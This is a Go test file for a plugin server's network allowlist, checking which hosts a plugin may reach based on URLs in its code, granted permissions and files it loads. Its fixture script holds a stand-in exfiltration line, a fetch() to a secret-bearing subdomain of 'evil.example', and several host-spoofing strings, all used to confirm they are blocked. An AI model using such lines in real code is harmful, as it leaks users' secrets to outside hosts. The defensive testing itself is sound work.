package server

import (
	"strings"
	"testing"

	"github.com/imjoy-tools/imjoy/pluginfile"
	"github.com/imjoy-tools/imjoy/tags"
	"github.com/imjoy-tools/imjoy/tags/permission"
)

func frameOf(t *testing.T, text, grant string) *frame {
	t.Helper()
	doc, _ := pluginfile.Parse("a.imjoy.html", []byte(text))
	plan, _ := tags.Resolve(doc, "")
	net, err := permission.Parse(grant)
	if err != nil {
		t.Fatal(err)
	}
	return &frame{plan: plan, granted: permission.NewSet(net)}
}

// Hosts that a plugin's text names, or that were granted, and no other.
func TestPluginsLoadFromNamedHosts(t *testing.T) {
	f := frameOf(t, `<config lang="json">{"name": "A", "type": "window"}</config>
<script lang="javascript">load("https://CDN.example.org/lib.js", "//short.example.org", 'https:\/\/escaped.example.org\/x', "https://port.example.org:8443/")
tiles("https://{s}.tile.example.org/{z}.png", "https://" + secret + ".evil.example/") // comment
fetch(`+"`https://${secret}.evil.example/`"+`)</script>`, "net:data.example.org")
	for host, want := range map[string]bool{
		"cdn.example.org": true, "CDN.example.org": true, "short.example.org": true, "escaped.example.org": true,
		"port.example.org:8443": true, "port.example.org": false, "data.example.org": true, "a.tile.example.org": true,
		"secret.tile.example.org": false, "tile.example.org": false, "example.org": false, "evil.example": false,
		"x.evil.example": false, "secret.evil.example": false, "cdn.example": false, "cdn.example.org.evil.example": false,
		"cdn.example.org@evil.example": false, "comment": false, "": false,
	} {
		if got := f.names(host); got != want {
			t.Errorf("%q: %v", host, got)
		}
	}
}

// What a plugin got from those names further ones; pictures do not, nor does more than
// the bounds.
func TestServedFilesNameHosts(t *testing.T) {
	f := frameOf(t, `<config lang="json">{"name": "A", "type": "window"}</config>`, "net:data.example.org")
	if f.names("fonts.example.org") {
		t.Error("before a file named it")
	}
	f.learn("image/png", []byte("https://picture.example.org/"))
	f.learn("text/css; charset=utf-8", []byte(`src: url(https://fonts.example.org/a.woff2)`))
	f.learn("text/javascript", []byte(strings.Repeat(" ", maxHostText)+"https://late.example.org/"))
	for host, want := range map[string]bool{"fonts.example.org": true, "picture.example.org": false, "late.example.org": false} {
		if got := f.names(host); got != want {
			t.Errorf("%q: %v", host, got)
		}
	}
	other := frameOf(t, `<config lang="json">{"name": "A", "type": "window"}</config>`, "net:data.example.org")
	if other.names("fonts.example.org") {
		t.Error("what one plugin got counts for another")
	}
}
